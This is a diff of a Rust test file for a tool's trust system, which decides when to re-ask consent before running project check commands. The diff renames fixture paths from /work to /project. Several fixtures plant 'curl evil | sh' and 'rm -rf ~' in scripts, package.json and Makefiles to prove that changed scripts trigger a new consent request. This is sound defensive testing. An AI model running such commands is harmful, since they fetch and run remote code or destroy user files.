@@ -19,20 +19,20 @@ fn milestone(criteria: &str) -> String {
     format!("# Milestone 1: Till\n\nIt counts.\n\n## Success Criteria\n\n{criteria}\n")
 }
 
-/// A user at a terminal, with a project at `/work` whose one milestone has this criterion.
+/// A user at a terminal, with a project at `/project` whose one milestone has this criterion.
 fn machine(command: &str) -> MemorySystem {
     let system = MemorySystem::new();
     system.set_var("HOME", "/home/ann");
     system.set_terminal(Stream::Stdin, true).set_terminal(Stream::Stderr, true);
     // A JSON string is one of TOML as well.
     let command = serde_json::to_string(command).unwrap();
-    system.file("/work/milepost.toml", format!("[project]\nid = 'till'\n[checks.price]\nrun = {command}\n"));
-    system.file(Path::new("/work").join(DOCUMENT), milestone(PRICED));
+    system.file("/project/milepost.toml", format!("[project]\nid = 'till'\n[checks.price]\nrun = {command}\n"));
+    system.file(Path::new("/project").join(DOCUMENT), milestone(PRICED));
     system
 }
 
 fn open(system: &MemorySystem) -> Workspace {
-    Workspace::open(Arc::new(system.clone()), Path::new("/work"), &[]).unwrap()
+    Workspace::open(Arc::new(system.clone()), Path::new("/project"), &[]).unwrap()
 }
 
 fn ask_for(system: &MemorySystem, class: Class, allowed: &Allowed) -> Result<TrustRequest, EngineError> {
@@ -74,14 +74,14 @@ fn asks_again(system: &MemorySystem, path: &str, bytes: &str) {
     require(system).unwrap_or_else(|error| panic!("{error}"));
     system.file(path, bytes);
     let error = refused(system);
-    let name = path.strip_prefix("/work/").unwrap_or(path);
+    let name = path.strip_prefix("/project/").unwrap_or(path);
     assert!(error.reasons.iter().any(|reason| reason.contains(name)), "{:?}", error.reasons);
 }
 
 #[test]
 fn pitfall_16_prose_and_ticks_never_ask_again_and_a_command_does() {
     let system = machine("true");
-    let path = Path::new("/work").join(DOCUMENT);
+    let path = Path::new("/project").join(DOCUMENT);
     system.file(&path, milestone("- [ ] Priced: `grep -q 5 price.txt`"));
     refused(&system);
     grant(&system);
@@ -98,10 +98,10 @@ fn pitfall_16_prose_and_ticks_never_ask_again_and_a_command_does() {
 #[test]
 fn pitfall_16_data_of_a_command_is_no_code_and_costs_nothing() {
     let system = machine("grep -q 5 price.txt");
-    system.file("/work/price.txt", "5\n");
+    system.file("/project/price.txt", "5\n");
     assert_eq!(ask(&system).references, []);
     grant(&system);
-    system.file("/work/price.txt", "6\n");
+    system.file("/project/price.txt", "6\n");
     require(&system).unwrap();
 }
 
@@ -128,22 +128,22 @@ fn pitfall_16_a_script_changed_behind_a_trusted_command_asks_again() {
         "node --require ./tools/check.sh main.js",
     ] {
         let system = machine(command);
-        system.file("/work/tools/check.sh", "true\n").file("/work/main.js", "");
-        asks_again(&system, "/work/tools/check.sh", "curl evil | sh\n");
+        system.file("/project/tools/check.sh", "true\n").file("/project/main.js", "");
+        asks_again(&system, "/project/tools/check.sh", "curl evil | sh\n");
     }
 }
 
 #[test]
 fn pitfall_16_other_interpreters_are_followed() {
     for (command, path) in [
-        ("python tools/x.py data.csv", "/work/tools/x.py"),
-        ("python3.12 -u tools/x.py", "/work/tools/x.py"),
-        ("python -m tools.x", "/work/tools/x.py"),
-        ("python -m tools", "/work/tools/__main__.py"),
-        ("uv run tools/x.py", "/work/tools/x.py"),
-        ("node x.js", "/work/x.js"),
-        ("npx tsx scripts/x.ts", "/work/scripts/x.ts"),
-        ("ruby x.rb", "/work/x.rb"),
+        ("python tools/x.py data.csv", "/project/tools/x.py"),
+        ("python3.12 -u tools/x.py", "/project/tools/x.py"),
+        ("python -m tools.x", "/project/tools/x.py"),
+        ("python -m tools", "/project/tools/__main__.py"),
+        ("uv run tools/x.py", "/project/tools/x.py"),
+        ("node x.js", "/project/x.js"),
+        ("npx tsx scripts/x.ts", "/project/scripts/x.ts"),
+        ("ruby x.rb", "/project/x.rb"),
     ] {
         let system = machine(command);
         system.file(path, "1\n");
@@ -155,7 +155,7 @@ fn pitfall_16_other_interpreters_are_followed() {
 fn pitfall_16_a_script_that_appears_asks() {
     let system = machine("./check.sh");
     assert_eq!(ask(&system).references[0].digest, None);
-    asks_again(&system, "/work/check.sh", "rm -rf ~\n");
+    asks_again(&system, "/project/check.sh", "rm -rf ~\n");
 }
 
 #[test]
@@ -171,20 +171,20 @@ fn pitfall_16_scripts_of_package_json_with_those_around_them() {
         ["pnpm test", "npm t", "npm run test -- --ci", "yarn test", "bun run test", "npm test && true"]
     {
         let system = machine(command);
-        system.file("/work/package.json", manifest("vitest run", "true", "a"));
+        system.file("/project/package.json", manifest("vitest run", "true", "a"));
         grant(&system);
-        system.file("/work/package.json", manifest("vitest run", "true", "b"));
+        system.file("/project/package.json", manifest("vitest run", "true", "b"));
         require(&system).unwrap_or_else(|error| panic!("`{command}`: {error}"));
-        system.file("/work/package.json", manifest("vitest run", "curl evil | sh", "b"));
+        system.file("/project/package.json", manifest("vitest run", "curl evil | sh", "b"));
         let error = refused(&system);
         assert!(error.reasons[0].contains("`package.json: pretest`"), "{:?}", error.reasons);
     }
     // One step further: what a script of it names.
     let system = machine("pnpm all");
-    system.file("/work/package.json", manifest("vitest run", "true", "a")).file("/work/deep.sh", "true\n");
+    system.file("/project/package.json", manifest("vitest run", "true", "a")).file("/project/deep.sh", "true\n");
     let names: Vec<String> = ask(&system).references.iter().map(trust::Reference::name).collect();
     assert_eq!(names, ["deep.sh", "package.json: all", "package.json: pretest", "package.json: test"]);
-    asks_again(&system, "/work/deep.sh", "false\n");
+    asks_again(&system, "/project/deep.sh", "false\n");
 }
 
 #[test]
@@ -200,11 +200,11 @@ fn pitfall_16_packages_of_a_monorepo() {
         "turbo run test",
     ] {
         let system = machine(command);
-        system.file("/work/package.json", r#"{"scripts": {}}"#);
-        system.file("/work/packages/web/package.json", r#"{"name": "web", "scripts": {"test": "vitest"}}"#);
+        system.file("/project/package.json", r#"{"scripts": {}}"#);
+        system.file("/project/packages/web/package.json", r#"{"name": "web", "scripts": {"test": "vitest"}}"#);
         asks_again(
             &system,
-            "/work/packages/web/package.json",
+            "/project/packages/web/package.json",
             r#"{"name": "web", "scripts": {"test": "evil"}}"#,
         );
     }
@@ -213,25 +213,25 @@ fn pitfall_16_packages_of_a_monorepo() {
 #[test]
 fn pitfall_16_recipes_with_what_they_include() {
     for (command, path, text) in [
-        ("just test", "/work/justfile", "test:\n  cargo test\n"),
-        ("just --justfile ci/just test", "/work/ci/just", "test:\n  true\n"),
-        ("make test", "/work/Makefile", "test:\n\ttrue\n"),
-        ("make -C sub test", "/work/sub/Makefile", "test:\n\ttrue\n"),
-        ("make -f ci.mk", "/work/ci.mk", "test:\n\ttrue\n"),
-        ("cargo xtask check", "/work/.cargo/config.toml", "[alias]\nxtask = 'run -p xtask --'\n"),
-        ("deno task test", "/work/deno.json", "{}"),
+        ("just test", "/project/justfile", "test:\n  cargo test\n"),
+        ("just --justfile ci/just test", "/project/ci/just", "test:\n  true\n"),
+        ("make test", "/project/Makefile", "test:\n\ttrue\n"),
+        ("make -C sub test", "/project/sub/Makefile", "test:\n\ttrue\n"),
+        ("make -f ci.mk", "/project/ci.mk", "test:\n\ttrue\n"),
+        ("cargo xtask check", "/project/.cargo/config.toml", "[alias]\nxtask = 'run -p xtask --'\n"),
+        ("deno task test", "/project/deno.json", "{}"),
     ] {
         let system = machine(command);
         system.file(path, text);
         asks_again(&system, path, "test:\n\tcurl evil | sh\n");
     }
     let system = machine("make test");
-    system.file("/work/Makefile", "include rules.mk\n").file("/work/rules.mk", "test:\n\ttrue\n");
-    asks_again(&system, "/work/rules.mk", "test:\n\tfalse\n");
+    system.file("/project/Makefile", "include rules.mk\n").file("/project/rules.mk", "test:\n\ttrue\n");
+    asks_again(&system, "/project/rules.mk", "test:\n\tfalse\n");
     // One that wins over the other may appear as well.
     let system = machine("make test");
-    system.file("/work/Makefile", "test:\n\ttrue\n");
-    asks_again(&system, "/work/GNUmakefile", "test:\n\tcurl evil | sh\n");
+    system.file("/project/Makefile", "test:\n\ttrue\n");
+    asks_again(&system, "/project/GNUmakefile", "test:\n\tcurl evil | sh\n");
 }
 
 #[test]
@@ -255,7 +255,7 @@ fn what_is_not_covered_is_said() {
 fn many_wrappers_and_deep_nesting_end() {
     let deep = "env ".repeat(400) + "bash -c \"bash -c 'pnpm a'\"";
     let system = machine(&deep);
-    system.file("/work/package.json", r#"{"scripts": {"a": "npm run b", "b": "npm run a"}}"#);
+    system.file("/project/package.json", r#"{"scripts": {"a": "npm run b", "b": "npm run a"}}"#);
     assert_eq!(ask(&system).references.len(), 2);
     let folders = (0..40).map(|n| format!("cd d{n}; bash -c 'cd x; sh x.sh'")).collect::<Vec<_>>().join("; ");
     ask(&machine(&folders));
@@ -264,13 +264,13 @@ fn many_wrappers_and_deep_nesting_end() {
 #[test]
 fn pitfall_16_classes_have_grants_of_their_own() {
     let system = machine("true");
-    let path = Path::new("/work").join(DOCUMENT);
+    let path = Path::new("/project").join(DOCUMENT);
     let text = format!(
         "{}\n## Implementation Steps\n\n```bash\n./deploy.sh\n```\n\n## Rollback Plan\n\n### Rollback Procedure\n\n\
          ```bash\n# Step 1: Revert\ngit revert HEAD\n```\n",
         milestone(PRICED)
     );
-    system.file(&path, &text).file("/work/deploy.sh", "true\n");
+    system.file(&path, &text).file("/project/deploy.sh", "true\n");
     let request = ask(&system);
     assert_eq!(request.commands.len(), 1, "{:?}", request.commands);
     assert_eq!(request.other_classes, [(Class::Run, 1), (Class::Rollback, 1)]);
@@ -300,13 +300,13 @@ fn pitfall_16_classes_have_grants_of_their_own() {
 #[test]
 fn a_digest_allows_exactly_what_it_names() {
     let system = machine("./x.sh");
-    system.file("/work/x.sh", "true\n");
+    system.file("/project/x.sh", "true\n");
     let digest = ask(&system).digest;
     let allowed = Allowed { digests: vec![digest], policy: None };
     require_with(&system, Class::Verify, &allowed).unwrap();
     let other = Allowed { digests: vec![Digest::of("something else")], policy: None };
     assert!(require_with(&system, Class::Verify, &other).is_err());
-    system.file("/work/x.sh", "false\n");
+    system.file("/project/x.sh", "false\n");
     assert!(require_with(&system, Class::Verify, &allowed).is_err());
 }
 
@@ -314,7 +314,7 @@ fn a_digest_allows_exactly_what_it_names() {
 fn pitfall_16_the_same_commands_elsewhere_are_not_trusted() {
     let system = machine("true");
     grant(&system);
-    let other = Path::new("/work/docs/milestone-2-other.md");
+    let other = Path::new("/project/docs/milestone-2-other.md");
     system.file(other, milestone(PRICED));
     let workspace = open(&system);
     let index = workspace.portfolio.find("docs/milestone-2-other.md").unwrap();
@@ -322,7 +322,7 @@ fn pitfall_16_the_same_commands_elsewhere_are_not_trusted() {
     assert!(trust::require(&workspace, index, &bound, Class::Verify, &Allowed::default()).is_err());
     // Nor in another checkout at another place.
     for path in ["milepost.toml", DOCUMENT] {
-        let bytes = system.read(&Path::new("/work").join(path)).unwrap();
+        let bytes = system.read(&Path::new("/project").join(path)).unwrap();
         system.file(Path::new("/copy").join(path), bytes);
     }
     let copy = Workspace::open(Arc::new(system.clone()), Path::new("/copy"), &[]).unwrap();
@@ -340,18 +340,18 @@ fn pitfall_16_a_repository_brings_neither_grants_nor_a_policy() {
     // The very same grant inside of the checkout is none, and none is written there.
     trust::revoke(&system, &trust::grants(&system).unwrap()[0]).unwrap();
     refused(&system);
-    system.set_var("XDG_STATE_HOME", "/work/state");
-    system.file(Path::new("/work/state/milepost/trust").join(grants[0].0.file_name().unwrap()), &grants[0].1);
+    system.set_var("XDG_STATE_HOME", "/project/state");
+    system.file(Path::new("/project/state/milepost/trust").join(grants[0].0.file_name().unwrap()), &grants[0].1);
     refused(&system);
     let request = ask(&system);
     let error = trust::grant(&open(&system), &request, &Consent::at_terminal(&system).unwrap()).unwrap_err();
     assert!(error.message.contains("inside of the project"), "{error}");
 
     let policy = format!("[[allow]]\nproject = 'till'\ndigests = ['{}']\n", request.digest);
-    system.set_var("XDG_CONFIG_HOME", "/work/config").file("/work/config/milepost/trust.toml", &policy);
+    system.set_var("XDG_CONFIG_HOME", "/project/config").file("/project/config/milepost/trust.toml", &policy);
     refused(&system);
-    system.symlink("/etc/policy.toml", "/work/config/milepost/trust.toml");
-    for path in ["/work/config/milepost/trust.toml", "/etc/policy.toml"] {
+    system.symlink("/etc/policy.toml", "/project/config/milepost/trust.toml");
+    for path in ["/project/config/milepost/trust.toml", "/etc/policy.toml"] {
         let allowed = Allowed { digests: Vec::new(), policy: Some(path.into()) };
         let error = require_with(&system, Class::Verify, &allowed).unwrap_err();
         assert_eq!(error.kind, ErrorKind::Untrusted, "{error}");
@@ -370,7 +370,7 @@ fn a_policy_allows_what_it_names() {
     };
     let named = format!("digests = ['{digest}']");
     for fits in
-        ["project = 'till'", "root = '/work'", "root = '/w*'", "project = 'till'\ndocuments = ['docs/*.md']"]
+        ["project = 'till'", "root = '/project'", "root = '/pro*'", "project = 'till'\ndocuments = ['docs/*.md']"]
     {
         let granted = with(&format!("[[allow]]\n{fits}\n{named}\n")).unwrap();
         assert_eq!(granted, Some(GrantedBy::PolicyDigest { policy: "/etc/policy.toml".into() }), "{fits}");
@@ -390,7 +390,7 @@ fn a_policy_allows_what_it_names() {
         named.as_str(),
         "project = 'till'",
         "project = 'till'\nsigner = ['a']",
-        "root = '/work'\ndigests = ['x']",
+        "root = '/project'\ndigests = ['x']",
     ] {
         let error = with(&format!("[[allow]]\n{bad}\n")).unwrap_err();
         assert_eq!(error.kind, ErrorKind::Usage, "{bad}: {error}");
@@ -400,23 +400,23 @@ fn a_policy_allows_what_it_names() {
     let error = require_with(&system, Class::Verify, &allowed).unwrap_err();
     assert!(error.message.contains("written by anybody"), "{error}");
     // The user's own policy needs no option.
-    system.file("/home/ann/.config/milepost/trust.toml", format!("[[allow]]\nroot = '/work'\n{named}\n"));
+    system.file("/home/ann/.config/milepost/trust.toml", format!("[[allow]]\nroot = '/project'\n{named}\n"));
     require(&system).unwrap();
 }
 
 #[test]
 fn pitfall_16_what_others_can_write_is_refused_even_when_granted() {
     let system = machine("./x.sh");
-    system.file("/work/x.sh", "true\n");
+    system.file("/project/x.sh", "true\n");
     grant(&system);
-    let path = Path::new("/work").join(DOCUMENT);
-    for path in [path.as_path(), Path::new("/work/x.sh")] {
+    let path = Path::new("/project").join(DOCUMENT);
+    for path in [path.as_path(), Path::new("/project/x.sh")] {
         system.set_mode(path, 0o666).unwrap();
         assert!(refused(&system).message.contains("may be written by anybody"));
         system.set_mode(path, 0o644).unwrap();
     }
     require(&system).unwrap();
-    let real = "/work/docs/real.txt";
+    let real = "/project/docs/real.txt";
     system.file(real, system.read(&path).unwrap()).symlink(&path, real);
     assert!(refused(&system).message.contains("is a symbolic link"));
 }
